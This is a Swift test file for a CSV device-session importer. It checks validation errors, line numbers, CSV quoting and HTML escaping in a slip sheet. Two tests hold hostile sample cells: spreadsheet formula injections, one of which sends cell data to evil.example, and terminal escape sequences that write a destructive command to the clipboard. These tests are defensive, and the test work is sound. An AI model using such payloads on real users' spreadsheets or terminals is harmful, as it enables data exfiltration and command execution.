import Foundation
import TapCore
import TapTestSupport
import Testing

@testable import TapAPI

@Suite("Session import: reading the CSV")
struct SessionImportReadingTests {
    static let presets: Set<String> = ["apple-ade", "single-sign-in"]

    @Test func fiveHundredRowsWithThreeBadOnesAreRefusedWholeWithTheirLineNumbers() {
        let text = benchCSV(
            rows: 500,
            bad: [
                17: "CART-X!,ipados,x@contoso.example,apple-ade,,",
                250: "CART-248,toaster,y@contoso.example,apple-ade,,",
                501: "CART-499,ipados,not-a-upn,no-such-preset,,",
            ])
        guard case .failure(.rows(let bad)) = SessionImport.read(text, presets: Self.presets) else {
            Issue.record("expected the bad rows")
            return
        }
        #expect(bad.map(\.line) == [17, 250, 501])
        #expect(bad[0].problems.count == 1 && bad[0].problems[0].hasPrefix("serialNumber"))
        #expect(
            bad[1].problems == ["platform 'toaster' is not one of ios, ipados, android, windows, macos, linux, other"])
        #expect(bad[2].problems.count == 2, "every problem of a row is reported: \(bad[2].problems)")
        #expect(bad[2].description.hasPrefix("line 501: userPrincipalName 'not-a-upn'"))
    }

    @Test func aGoodFileReadsEveryRowWithQuotedFields() throws {
        guard case .success(let rows) = SessionImport.read(benchCSV(rows: 3), presets: Self.presets) else {
            Issue.record("expected rows")
            return
        }
        #expect(rows.map(\.line) == [2, 3, 4])
        #expect(rows[0].request.device?.model == "iPad, 10th gen")
        #expect(rows[0].request.device?.serialNumber.value == "CART-0")
        #expect(rows[0].request.pass?.preset == "apple-ade")
    }

    @Test func fileLevelProblemsAndDuplicateSerials() {
        #expect(SessionImport.read("", presets: Self.presets) == .failure(.file("the file is empty")))
        #expect(
            SessionImport.read("serialNumber,platform,userPrincipalName\nA,ios,a@b.example\n", presets: Self.presets)
                == .failure(.file("line 1: missing column(s) preset")))
        #expect(
            SessionImport.read("serialNumber,platform,userPrincipalName,preset,colour\n", presets: Self.presets)
                == .failure(.file("line 1: unknown column colour")))
        let duplicate =
            "serialNumber,platform,userPrincipalName,preset\nA-1,ios,a@b.example,apple-ade\na-1,ios,b@b.example,apple-ade\n"
        #expect(
            SessionImport.read(duplicate, presets: Self.presets)
                == .failure(.rows([.init(line: 3, problems: ["serialNumber A-1 is already on line 2"])])))
    }

    @Test func csvFieldsWithQuotesAndLineBreaksKeepTheirLineNumbers() {
        let records = CSV.records("a,b\n\"x\ny\",\"say \"\"hi\"\"\"\nlast,row\n")
        #expect(records.map(\.line) == [1, 2, 4])
        #expect(records[1].fields == ["x\ny", "say \"hi\""])
        #expect(CSV.escape("a,b") == "\"a,b\"")
    }

    @Test func cellsASpreadsheetWouldRunAsFormulasAreNeutralised() {
        let formulas = [
            #"=HYPERLINK("http://evil.example/?"&A1,"click")"#, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1",
        ]
        for value in formulas {
            let cell = CSV.spreadsheetCell(value)
            #expect(cell.hasPrefix("\"'"), "\(value) -> \(cell)")
            #expect(CSV.records(cell + "\n").first?.fields == ["'" + value])
        }
        #expect(CSV.spreadsheetCell("A-1") == "A-1", "an ordinary cell is left as it was")
        #expect(CSV.spreadsheetCell("A,7") == "\"A,7\"")
    }

    @Test func aBadCellIsReportedWithoutItsControlSequences() {
        let hostile = "\u{1B}]0;owned\u{07}\u{1B}[2J\u{1B}]52;c;cm0gLXJmIH4=\u{07}\u{9B}2J"
        let text =
            "serialNumber,platform,userPrincipalName,preset\n\"CART\(hostile)\r\",\"ios\(hostile)\",ada@contoso.example,apple-ade\n"
        guard case .failure(.rows(let bad)) = SessionImport.read(text, presets: Self.presets) else {
            Issue.record("expected the bad row")
            return
        }
        let report = bad.map(\.description).joined()
        #expect(report.hasPrefix("line 2: serialNumber 'CART\u{FFFD}"), "\(report)")
        #expect(!TerminalText.containsActive(report), "\(report.debugDescription)")
        guard
            case .failure(.file(let reason)) = SessionImport.read("serialNumber,col\(hostile)\n", presets: Self.presets)
        else {
            Issue.record("expected the unknown column")
            return
        }
        #expect(!TerminalText.containsActive(reason), "\(reason.debugDescription)")
    }

    @Test func theSlipSheetHoldsOneSlipPerDeviceAndEscapesText() {
        let expires = Date(timeIntervalSince1970: 1_795_690_800)
        let html = SlipSheet.render(
            [
                .init(
                    serialNumber: "CART-1", assetTag: "A-1", model: "iPad", userPrincipalName: "ada@contoso.example",
                    pass: "K7QM-3XRP-HV9T", expires: expires),
                .init(
                    serialNumber: "CART-2", assetTag: nil, model: "<b>", userPrincipalName: "bob@contoso.example",
                    pass: "HV9T-K7QM-3XRP", expires: expires),
            ], title: "Cart 7", now: expires)
        #expect(html.components(separatedBy: "class=\"slip\"").count == 3)
        #expect(html.contains("K7QM-3XRP-HV9T") && html.contains("HV9T-K7QM-3XRP"))
        #expect(html.contains("&lt;b&gt;") && !html.contains("<b>"))
        #expect(html.contains("default-src 'none'"))
        #expect(!html.contains("http://") && !html.contains("https://"), "no outside assets")
    }
}
